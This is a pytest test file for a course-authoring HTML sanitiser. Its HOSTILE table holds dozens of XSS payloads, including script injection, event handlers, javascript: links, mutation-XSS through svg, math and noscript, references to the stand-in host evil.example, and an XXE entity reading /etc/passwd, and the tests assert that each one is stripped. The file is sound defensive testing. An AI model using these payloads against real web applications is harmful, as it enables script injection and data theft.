import re
from html.parser import HTMLParser

import nh3
import pytest

from modules.authoring.edition_reading import read_edition
from modules.authoring.outline_reading import read_outline
from modules.authoring.problem import Problems
from modules.authoring.sanitising import is_media_path, is_outside, refusals, sanitise
from modules.course.ids import ENGLISH, LessonId
from modules.course.lesson_markup import BLOCK_TAGS, INLINE_TAGS, parse_markup
from tests.authoring.sample_course import COURSE, LESSON, OUTLINE, SampleCourse

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "script in capitals": "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "script split by a tag": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script in a comment": "<!--><script>alert(1)</script>-->",
    "onclick": '<p onclick="alert(1)">text</p>',
    "onerror": '<img src=x onerror="alert(1)">',
    "event without quotes": "<a href=https://ok.example onmouseover=alert(1)>x</a>",
    "event behind a slash": "<img/src=x/onerror=alert(1)>",
    "event by attribute list": "text{: onclick='alert(1)' }",
    "style element": "<style>body{display:none}</style>",
    "style attribute": '<p style="background:url(//evil.example)">text</p>',
    "form": '<form action="//evil.example"><input name="password"><button>Go</button></form>',
    "formaction": '<button formaction="javascript:alert(1)">x</button>',
    "javascript link": "[x](javascript:alert(1))",
    "javascript link, spelt apart": '<a href="java&#x09;script:alert(1)">x</a>',
    "javascript link with entities": '<a href="&#106;avascript:alert(1)">x</a>',
    "javascript link in capitals": "[x](JaVaScRiPt:alert(1))",
    "vbscript": "[x](vbscript:msgbox(1))",
    "data link": "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "data picture": "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "picture from elsewhere": "![x](https://evil.example/pixel.png)",
    "picture from elsewhere without a scheme": "![x](//evil.example/pixel.png)",
    "picture out of the folder": "![x](media/../../secrets.png)",
    "srcset": '<img src="media/a.png" srcset="//evil.example/a.png 2x">',
    "svg": '<svg onload="alert(1)"><circle r="1"/></svg>',
    "nested svg": "<svg><svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg></svg>",
    "svg with a script": "<svg><script>alert(1)</script></svg>",
    "svg that changes meaning": "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "mathml that changes meaning": "<math><mtext><table><mglyph><style><!--</style><img src onerror=alert(1)>",
    "noscript that changes meaning": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "base": '<base href="//evil.example/">',
    "meta": '<meta http-equiv="refresh" content="0;url=//evil.example">',
    "link": '<link rel="stylesheet" href="//evil.example/x.css">',
    "iframe": '<iframe src="//evil.example"></iframe>',
    "iframe with a document": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="//evil.example"></object>',
    "embed": '<embed src="//evil.example">',
    "video": '<video src="//evil.example" onloadstart="alert(1)"></video>',
    "template": "<template><script>alert(1)</script></template>",
    "textarea": "<textarea></textarea><script>alert(1)</script>",
    "id that takes a name": '<p id="location">text</p>',
    "class of the house": '<p class="st-key-player">text</p>',
    "popover": '<div popover id="x">text</div>',
    "forged sentence": '<span data-sentence="0">text</span>',
    "forged term": '<span data-term="customer-need">text</span>',
    "contenteditable": '<p contenteditable="true">text</p>',
    "target of a frame": '<a href="https://ok.example" target="_top">x</a>',
    "xml": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><p>&a;</p>',
}

ALLOWED = {
    "a": {"href", "title", "rel", "target"},
    "img": {"src", "alt", "width", "height"},
    "span": {"data-sentence", "data-term"},
    "ol": {"start", "data-footnotes"},
    "p": {"data-box-title"},
    "div": {"data-box"},
    "sup": {"data-footnote"},
}


def unsafe_parts(html: str) -> list[str]:
    """Return the tags, attributes and addresses that may not stand in a lesson, by a reading of its own."""
    found: list[str] = []

    class Reader(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            if tag not in INLINE_TAGS | BLOCK_TAGS:
                found.append(f"<{tag}>")
            for name, value in attrs:
                address = re.sub(r"\s", "", value or "").lower()
                if name not in ALLOWED.get(tag, set()):
                    found.append(f"{tag} {name}")
                if name == "href" and not address.startswith(("https:", "http:", "mailto:", "media/")):
                    found.append(f"href {value}")
                if name == "src" and (not address.startswith("media/") or ".." in address):
                    found.append(f"src {value}")

        def handle_comment(self, data: str) -> None:
            found.append(f"<!--{data}")

        def handle_decl(self, decl: str) -> None:
            found.append(f"<!{decl}")

    Reader(convert_charrefs=True).feed(html)
    return found


@pytest.mark.parametrize("hostile", HOSTILE.values(), ids=HOSTILE.keys())
@pytest.mark.parametrize("where", ["block", "inline", "list", "table", "box", "heading", "footnote"])
def test_nothing_hostile_leaves_authoring(hostile: str, where: str):
    placed = {
        "block": f"\n{hostile}\n",
        "inline": f"Some text {hostile} goes on.",
        "list": f"- {hostile}\n- two",
        "table": f"| a | b |\n| --- | --- |\n| {hostile} | x |",
        "box": f"!!! example\n    {hostile}",
        "heading": f"### {hostile}",
        "footnote": f"Text[^x].\n\n[^x]: {hostile}",
    }[where]
    sample = SampleCourse().change(LESSON, "Our customer wants to reach", f"{placed}\n\nOur customer wants to reach")
    if where == "heading":
        sample.change(LESSON, "## Hearing all three", f"## Hearing {hostile} all three")
    html = lesson_html(sample)
    assert "Our customer wants" in html or "<math>" in hostile, "only an open <math> takes the text after it along"
    assert unsafe_parts(html) == []
    assert "alert" not in re.sub(r">[^<]*<", "><", html)


def lesson_html(sample: SampleCourse) -> str:
    """Return all HTML of the sample's lesson, read even with errors."""
    problems = Problems(OUTLINE)
    outline = read_outline(sample.files[OUTLINE], problems, COURSE)
    assert outline is not None
    read = read_edition(sample.files, problems, outline=outline, language=ENGLISH, sources={}, media={})
    lesson = read.lessons[LessonId("three-kinds-of-need")].lesson
    parts = [lesson.title_html, lesson.opening_html, lesson.key_points_html]
    return "\n".join(parts + [part for section in lesson.sections for part in (section.heading_html, section.html)])


SAID = {
    "script": ("html-tag-refused", "script"),
    "onclick": ("html-attribute-refused", "onclick"),
    "style element": ("html-tag-refused", "style"),
    "style attribute": ("html-attribute-refused", "style"),
    "form": ("html-tag-refused", "form"),
    "javascript link": ("html-link-refused", "a"),
    "data link": ("html-link-refused", "a"),
    "picture from elsewhere": ("html-image-refused", "img"),
    "svg": ("html-tag-refused", "svg"),
    "base": ("html-tag-refused", "base"),
    "meta": ("html-tag-refused", "meta"),
    "iframe": ("html-tag-refused", "iframe"),
    "forged sentence": ("html-attribute-left-out", "data-sentence"),
}


@pytest.mark.parametrize("name", SAID)
def test_what_is_dropped_is_named_with_its_place(name: str):
    sample = SampleCourse().change(LESSON, "Our customer wants", f"{HOSTILE[name]}\n\nOur customer wants")
    code, said = SAID[name]
    found = [problem for problem in sample.problems(code) if problem.fields["name"] == said]
    line = sample.place(LESSON, HOSTILE[name])[0]
    assert [(problem.file, problem.line) for problem in found] == [(LESSON, line)]


def test_a_remote_picture_leaves_no_trace():
    assert sanitise('<p><img src="https://evil.example/a.png" alt="x"></p>') == '<p><img alt="x"></p>'
    html = lesson_html(SampleCourse().change(LESSON, "Our customer", "![x](https://evil.example/a.png) Our customer"))
    assert "<img" not in html


def test_the_closed_tag_set_passes_unchanged():
    html = (
        "<h3>A</h3><p>b <strong>c</strong> <em>d</em> <code>e</code> x<sup>2</sup><br>f</p><ul><li>g</li></ul>"
        '<ol start="3"><li>h</li></ol><blockquote><p>i</p></blockquote><hr><dl><dt>j</dt><dd>k</dd></dl>'
        '<figure><img src="media/a.png" alt="l"><figcaption>m</figcaption></figure>'
        '<p><a href="https://a.example">n</a> <a href="mailto:a@b.lv">o</a> <a href="term:customer-need">p</a></p>'
    )
    assert sanitise(html) == html
    assert refusals(html) == ()


def test_what_leaves_authoring_would_pass_the_sanitiser_again():
    sample = SampleCourse().change(LESSON, "Our customer", "*A. B* [link](https://a.example) **Our. customer")
    html = lesson_html(sample)
    attributes = {tag: set(names) for tag, names in ALLOWED.items()}
    again = nh3.clean(html, tags=set(INLINE_TAGS | BLOCK_TAGS), attributes=attributes, link_rel=None)
    assert [element.tag for element in parse_markup(again).walk()] == [
        element.tag for element in parse_markup(html).walk()
    ]


ADDRESSES = {
    "https://a.example": (True, False),
    "HTTP://a.example": (True, False),
    "mailto:a@b.lv": (True, False),
    "//a.example/x": (False, False),
    "javascript:alert(1)": (False, False),
    "media/a.png": (False, True),
    "media/en/a.vtt": (False, True),
    "media/../a.png": (False, False),
    "media//a.png": (False, False),
    "/media/a.png": (False, False),
    "https:media/a.png": (False, False),
}


@pytest.mark.parametrize("address", ADDRESSES)
def test_an_address_leads_outside_or_into_the_package_or_nowhere(address: str):
    assert (is_outside(address), is_media_path(address)) == ADDRESSES[address]
